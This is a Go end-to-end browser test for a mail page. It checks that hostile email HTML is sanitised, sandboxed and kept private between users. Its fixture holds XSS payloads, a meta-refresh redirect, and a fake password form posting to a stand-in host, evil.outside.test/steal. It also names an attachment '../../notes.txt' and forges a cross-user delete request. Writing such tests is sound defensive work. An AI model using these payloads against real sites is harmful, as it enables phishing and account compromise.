package e2e

import (
	"net/smtp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/enclave-mcp/enclave"
	"github.com/enclave-mcp/enclave/enclavetest"
	"github.com/enclave-mcp/enclave/internal/chromiumtest"
	"github.com/enclave-mcp/enclave/mail"
)

const mailPageDomain = "page.enclave.test"

// mailPageHostile is a message whose HTML tries everything a page must
// not let it do: scripts, handlers, javascript: links, forms, a meta
// refresh, frames and objects. Its text part is what the page shows by
// default; a text attachment rides along.
func mailPageHostile(to string) []byte {
	return []byte(strings.ReplaceAll(`From: Mallory <mallory@outside.test>
To: `+to+`
Subject: Harbour plans
Message-ID: <hostile-1@outside.test>
Date: Mon, 07 Dec 2026 03:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=utf-8

Meet at the harbour at six.
--alt
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url=https://evil.outside.test/"><script>top.document.title='pwned';window.top.location='https://evil.outside.test/'</script></head>
<body onload="top.document.title='pwned'"><p id="greeting">Meet at the <b>harbour</b> at six.</p>
<img src="x" onerror="top.document.title='pwned'">
<a id="js" href="javascript:top.document.title='pwned'">open</a>
<form action="https://evil.outside.test/steal" method="post"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.outside.test/"></iframe><object data="https://evil.outside.test/x.swf"></object>
<svg onload="top.document.title='pwned'"></svg></body></html>
--alt--
--outer
Content-Type: text/plain; name="notes.txt"
Content-Disposition: attachment; filename="../../notes.txt"

<script>alert(1)</script> a text attachment
--outer--
`, "\n", "\r\n"))
}

// TestMailPageJourney: a real SMTP client delivers a message with
// hostile HTML to alice; in headless Chromium alice finds her address,
// her inbox, the thread and the message (text by default), shows the
// HTML (in a sandboxed frame: nothing runs, nothing navigates), checks
// the attachment download's headers, adds a block rule and deletes the
// message. Bob's mail page never shows alice's mail, and the URLs of
// alice's message, its HTML and its attachment answer 404 to him.
func TestMailPageJourney(t *testing.T) {
	bin := chromiumtest.Bin(t)
	opts := enclavetest.Options{Config: enclave.Config{Mail: mail.Options{Domain: mailPageDomain, SMTPListen: "127.0.0.1:0"}}}
	enclavetest.Each(t, opts, func(t *testing.T, s *enclavetest.Server) {
		alice, bob := s.CreateUser(t, "alice"), s.CreateUser(t, "bob")
		if err := smtp.SendMail(s.SMTPAddr(), nil, "mallory@outside.test", []string{"alice+boats@" + mailPageDomain}, mailPageHostile("alice+boats@"+mailPageDomain)); err != nil {
			t.Fatalf("send: %v", err)
		}

		browserCtx, ctx := chromiumtest.Start(t, bin, 3*time.Minute)
		step := chromiumtest.Stepper(t, browserCtx, ctx, "mail-page-failed")
		text := chromiumtest.Texter(t, ctx)
		eval := func(js string) string {
			t.Helper()
			v, err := chromedp.Run(ctx, chromedp.Evaluate[string](js, chromedp.EvalAwaitPromise))
			if err != nil {
				t.Fatalf("evaluate %s: %v", js, err)
			}
			return v
		}
		location := func() string {
			t.Helper()
			v, err := chromedp.Run(ctx, chromedp.Location())
			if err != nil {
				t.Fatal(err)
			}
			return v
		}
		// fetched answers "status|content-type|content-disposition|nosniff|csp|body" for a
		// same-origin GET from the page, with its cookies.
		fetched := func(path string) string {
			return eval(`fetch(` + jsString(path) + `, {credentials: 'same-origin'}).then(async r => [r.status, r.headers.get('content-type'), r.headers.get('content-disposition'), r.headers.get('x-content-type-options'), r.headers.get('content-security-policy'), await r.text()].join('|'))`)
		}
		signIn := func(u *enclavetest.User) {
			t.Helper()
			step("sign in as "+u.Username,
				chromedp.EmulateViewport(1280, 900),
				chromedp.Navigate(s.URL+"/login"),
				chromedp.SendKeys(chromedp.ID("email"), u.Email),
				chromedp.SendKeys(chromedp.ID("password"), u.Password),
				chromedp.Click(chromedp.CSS(`form[action="/login"] button[type="submit"]`)),
				chromedp.WaitVisible(chromedp.CSS(`form[action="/logout"]`)),
			)
		}

		signIn(alice)
		step("follow the account navigation to the mail page",
			chromedp.Navigate(s.URL+"/account"),
			chromedp.Click(chromedp.CSS(`main a[href="/account/mail"]`)),
			chromedp.WaitVisible(chromedp.ID("mail-address-value")),
		)
		if got := text("#mail-address-value"); got != "alice@"+mailPageDomain {
			t.Errorf("address shown: %q", got)
		}
		if got := text("#mail-address"); !strings.Contains(got, "alice+shopping@"+mailPageDomain) {
			t.Errorf("no +tag hint: %q", got)
		}
		if got := text("#mail-messages"); !strings.Contains(got, "Harbour plans") || !strings.Contains(got, "mallory@outside.test") {
			t.Fatalf("inbox: %q", got)
		}
		step("open the thread",
			chromedp.Click(chromedp.CSS(`#mail-messages a.mail-thread`)),
			chromedp.WaitVisible(chromedp.ID("thread-messages")),
		)
		if got := text("#thread-messages"); !strings.Contains(got, "Harbour plans") {
			t.Errorf("thread: %q", got)
		}
		step("open the message: text by default",
			chromedp.Click(chromedp.CSS(`#thread-messages a.mail-open`)),
			chromedp.WaitVisible(chromedp.ID("message-text")),
		)
		msgURL := location()
		id := msgURL[strings.Index(msgURL, "id=")+3:]
		if !strings.HasPrefix(id, "msg_") {
			t.Fatalf("message URL %q", msgURL)
		}
		if got := text("#message-text"); !strings.Contains(got, "harbour at six") {
			t.Errorf("text: %q", got)
		}
		if n := eval(`String(document.querySelectorAll('iframe').length)`); n != "0" {
			t.Errorf("the text view has %s frames", n)
		}

		title := eval(`document.title`)
		step("show the HTML in its sandboxed frame",
			chromedp.Click(chromedp.ID("show-html")),
			chromedp.WaitVisible(chromedp.ID("message-html")),
			chromedp.Sleep(1500*time.Millisecond), // room for a refresh, a script or a handler to act
		)
		if got := eval(`document.getElementById('message-html').getAttribute('sandbox')`); got != "" {
			t.Errorf("frame sandbox = %q, want empty (no permission at all)", got)
		}
		if got := eval(`document.title`); got != title || strings.Contains(got, "pwned") {
			t.Errorf("a script of the message ran: title %q, was %q", got, title)
		}
		if loc := location(); loc != msgURL+"&view=html" {
			t.Errorf("the page navigated to %q", loc)
		}
		frameDoc := fetched("/account/mail/html?id=" + id)
		if !strings.HasPrefix(frameDoc, "200|text/html") || !strings.Contains(frameDoc, "default-src 'none'") || !strings.Contains(frameDoc, "sandbox") ||
			!strings.Contains(frameDoc, "<b>harbour</b>") {
			t.Errorf("the frame's document: %q", frameDoc)
		}
		for _, bad := range []string{"<script", "onerror", "onload", "javascript:", "<form", "http-equiv", "<iframe", "<object", "<svg"} {
			if strings.Contains(strings.ToLower(frameDoc[strings.LastIndex(frameDoc, "|"):]), bad) {
				t.Errorf("the frame's document holds %q: %q", bad, frameDoc)
			}
		}
		// The frame really shows the message (its policy lets this site
		// frame it), and still holds it: nothing in it navigated it.
		targets, err := chromedp.Targets(ctx)
		if err != nil {
			t.Fatal(err)
		}
		framed := ""
		for _, ti := range targets {
			if ti.Type != "iframe" || ti.URL != s.URL+"/account/mail/html?id="+id {
				continue
			}
			// Cancelling this context would close the frame's target
			// (and detach the page): it ends with the test.
			fctx, cancel := chromedp.NewContext(browserCtx, chromedp.WithTargetID(ti.TargetID))
			t.Cleanup(cancel)
			framed, err = chromedp.Run(fctx, chromedp.Evaluate[string](`[document.scripts.length, document.forms.length, document.links.length, document.body.innerText.split(/\s+/).join(' ')].join('|')`))
			if err != nil {
				t.Fatalf("read the frame: %v", err)
			}
		}
		if framed != "0|0|0|Meet at the harbour at six. open Sign in" {
			t.Errorf("the frame shows %q (want the sanitised message: no script, form or link)", framed)
		}

		attURL := eval(`document.querySelector('#message-attachments a.attachment').getAttribute('href')`)
		if got := text("#message-attachments"); !strings.Contains(got, "notes.txt") || strings.Contains(got, "../") {
			t.Errorf("attachments: %q", got)
		}
		att := fetched(attURL)
		if !strings.HasPrefix(att, "200|application/octet-stream|attachment; filename=notes.txt|nosniff|") || !strings.HasSuffix(att, "|<script>alert(1)</script> a text attachment") {
			t.Errorf("attachment download: %q", att)
		}

		step("add a block rule",
			chromedp.Navigate(s.URL+"/account/mail"),
			chromedp.SendKeys(chromedp.ID("rule-sender"), "@spam.outside.test"),
			chromedp.SetValue(chromedp.ID("rule-action"), "block"),
			chromedp.Click(chromedp.CSS(`#rule-add button[type="submit"]`)),
			chromedp.WaitVisible(chromedp.ID("rules")),
		)
		if got := text("#rules"); !strings.Contains(got, "@spam.outside.test") || !strings.Contains(got, "block") {
			t.Errorf("rules: %q", got)
		}
		step("a sender the rules refuse is explained on the page",
			chromedp.SendKeys(chromedp.ID("rule-sender"), "not an address"),
			chromedp.Click(chromedp.CSS(`#rule-add button[type="submit"]`)),
			chromedp.WaitVisible(chromedp.CSS(`#rule-add .error`)),
		)

		step("sign out",
			chromedp.Click(chromedp.CSS(`form[action="/logout"] button`)),
			chromedp.WaitVisible(chromedp.CSS(`a[href="/login"]`)),
		)
		signIn(bob)
		step("bob's mail page",
			chromedp.Navigate(s.URL+"/account/mail"),
			chromedp.WaitVisible(chromedp.ID("no-mail")),
		)
		if got := text("main"); strings.Contains(got, "Harbour") || strings.Contains(got, "mallory") || text("#mail-address-value") != "bob@"+mailPageDomain {
			t.Errorf("bob's page: %q", got)
		}
		for _, path := range []string{"/account/mail/message?id=" + id, "/account/mail/html?id=" + id, attURL} {
			if got := fetched(path); !strings.HasPrefix(got, "404|") || strings.Contains(got, "harbour") {
				t.Errorf("bob GET %s: %.200q", path, got)
			}
		}
		step("bob posts a delete of alice's message from his own page: not his, nothing deleted",
			chromedp.Navigate(s.URL+"/account/mail"),
			chromedp.Evaluate[chromedp.Void](`(() => { const f = document.createElement('form'); f.method = 'post'; f.action = '/account/mail/delete';
				const i = document.createElement('input'); i.type = 'hidden'; i.name = 'id'; i.value = `+jsString(id)+`; f.appendChild(i);
				document.body.appendChild(f); f.submit() })()`),
			// Bob's page before the post shows #no-mail too: wait for the
			// answer's notice, which only the page after it has.
			chromedp.WaitVisible(chromedp.Search(`//p[contains(@class, "notice") and contains(., "no such message")]`)),
			chromedp.WaitVisible(chromedp.ID("no-mail")),
		)
		if got := text("main"); !strings.Contains(got, "There was no such message.") {
			t.Errorf("bob's delete of alice's message: %q", got)
		}
		step("sign out bob",
			chromedp.Navigate(s.URL+"/account/mail"),
			chromedp.Click(chromedp.CSS(`form[action="/logout"] button`)),
			chromedp.WaitVisible(chromedp.CSS(`a[href="/login"]`)),
		)

		signIn(alice)
		for _, path := range []string{"/account/mail", msgURL[len(s.URL):], msgURL[len(s.URL):] + "&view=html"} {
			step("at a phone's width: "+path,
				chromedp.EmulateViewport(390, 844),
				chromedp.Navigate(s.URL+path),
				chromedp.WaitVisible(chromedp.CSS(`main`)),
			)
			if got := eval(`String(document.documentElement.scrollWidth - window.innerWidth)`); got != "0" {
				t.Errorf("%s scrolls sideways on a phone by %s px", path, got)
			}
		}
		step("alice's message is still there; she deletes it",
			chromedp.EmulateViewport(1280, 900),
			chromedp.Navigate(msgURL),
			chromedp.WaitVisible(chromedp.ID("message-text")),
			chromedp.Click(chromedp.CSS(`details.delete summary`)),
			chromedp.Click(chromedp.CSS(`#message-delete button[type="submit"]`)),
			chromedp.WaitVisible(chromedp.ID("no-mail")),
		)
		if got := text("main"); !strings.Contains(got, "The message is deleted.") || strings.Contains(got, "Harbour plans") {
			t.Errorf("after delete: %q", got)
		}
		if got := fetched("/account/mail/message?id=" + id); !strings.HasPrefix(got, "404|") {
			t.Errorf("deleted message: %.200q", got)
		}
		step("the mail page fits a phone",
			chromedp.EmulateViewport(390, 844),
			chromedp.Navigate(s.URL+"/account/mail"),
			chromedp.WaitVisible(chromedp.ID("rules")),
		)
		if got := eval(`String(document.documentElement.scrollWidth - window.innerWidth)`); got != "0" {
			t.Errorf("the mail page scrolls sideways on a phone by %s px", got)
		}
	})
}

// jsString quotes s as a JavaScript string literal.
func jsString(s string) string {
	return "'" + strings.NewReplacer(`\`, `\\`, `'`, `\'`, "\n", `\n`, "\r", `\r`).Replace(s) + "'"
}
